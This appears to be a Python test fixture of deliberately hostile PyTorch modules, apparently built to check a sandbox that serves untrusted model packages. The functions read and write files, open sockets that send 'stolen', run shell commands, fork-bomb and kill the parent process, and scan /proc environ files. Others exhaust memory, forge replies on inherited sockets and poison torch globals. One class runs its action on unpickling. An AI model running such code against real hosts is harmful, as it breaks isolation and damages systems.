"""Layers of an operator who has allowed the wrong package: what a module can do when it is asked or loaded."""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import signal
import socket
import struct
import sys
import threading
from pathlib import Path

import torch


def _all_lines():
    return [fd for fd in range(3, 64) if _is_socket(fd)]


def _is_socket(fd):
    try:
        return os.fstat(fd).st_mode & 0o170000 == 0o140000
    except OSError:
        return False


def _one(value):
    return torch.tensor([[float(value)]])


def read(path):
    return _one(len(Path(path).read_bytes()))


def read_anew(path):
    """Not by Python's own means."""
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.open(path.encode(), os.O_RDONLY)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "denied")
    return _one(descriptor)


def write(path):
    Path(path).write_text("left behind")
    return _one(1)


def connect(port):
    with socket.create_connection(("127.0.0.1", int(port)), timeout=5) as line:
        line.sendall(b"stolen")
    return _one(1)


def connect_by_another_way(port):
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    address = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(int(port)), socket.inet_aton("127.0.0.1"))
    if descriptor < 0 or libc.connect(descriptor, address, len(address)):
        raise OSError(ctypes.get_errno(), "denied")
    return _one(1)


def shell(command):
    if os.system(command) != 0:
        raise OSError("denied")
    return _one(1)


def fork_bomb(_):
    while True:
        os.fork()


def thread_bomb(_):
    threads = [threading.Thread(target=threading.Event().wait, daemon=True) for _ in range(10_000)]
    for thread in threads:
        thread.start()
    return _one(1)


def kill(pid):
    os.kill(int(pid), signal.SIGKILL)
    return _one(1)


def kill_parent(_):
    return kill(os.getppid())


def environment(name_and_server):
    """In how many places a variable of the server's is to be found."""
    name, server = name_and_server.split()
    found = name in os.environ
    for pid in ("self", os.getppid(), server):
        with contextlib.suppress(OSError):
            found += name.encode() in Path(f"/proc/{pid}/environ").read_bytes()
    return _one(found)


def allocate(how):
    if how == "at once":
        return torch.ones(2 << 30, dtype=torch.uint8)
    if how == "mapped":
        return _one(len(mmap.mmap(-1, 2 << 30)))
    kept = []
    while True:
        kept.append(bytearray(16 << 20))


def hang(_):
    while True:
        pass


def huge_output(size):
    return torch.zeros(1, int(size))


def nothing(rows):
    return torch.zeros(int(rows), 0)


def chatter(count):
    line = b"x" * (1 << 20)
    for _ in range(int(count)):
        os.write(1, line)
        sys.stderr.write("x" * 1000)
    return _one(1)


def segfault(_):
    ctypes.string_at(0)


def leave(how):
    sys.exit() if how == "politely" else os._exit(0)


def lie(answer):
    """Answer in the place of the one who would."""
    for fd in _all_lines():
        os.write(fd, bytes.fromhex(answer))
    hang(None)


def pid(_):
    return _one(os.getpid())


_asked = []


def pid_once(_):
    """Hangs when it is asked again."""
    if _asked:
        hang(_)
    _asked.append(True)
    return pid(_)


def parent(_):
    return _one(os.getppid())


def remember(place):
    """Change whatever another model might meet."""
    torch.left_behind = True
    torch.nn.functional.relu = torch.zeros_like
    os.environ["LEFT_BEHIND"] = "1"
    torch.set_default_dtype(torch.float64)
    for path in (f"{place}/left_behind", "/dev/shm/left_behind", "/tmp/left_behind"):
        with contextlib.suppress(OSError):
            Path(path).write_text("1")
    return _one(_traces(place))


def recall(place):
    return _one(_traces(place))


def _traces(place):
    return (
        hasattr(torch, "left_behind")
        + (torch.nn.functional.relu is torch.zeros_like)
        + ("LEFT_BEHIND" in os.environ)
        + (torch.get_default_dtype() == torch.float64)
        + any(os.access(f"{folder}/left_behind", os.F_OK) for folder in (place, "/dev/shm", "/tmp"))
    )


class Hostile(torch.nn.Module):
    """Does what `action` says when it is asked."""

    def __init__(self, action, argument=""):
        super().__init__()
        self.action = action
        self.argument = argument

    def forward(self, inputs):
        return globals()[self.action](self.argument)


class HostileWhenLoaded(Hostile):
    def __setstate__(self, state):
        super().__setstate__(state)
        globals()[self.action](self.argument)
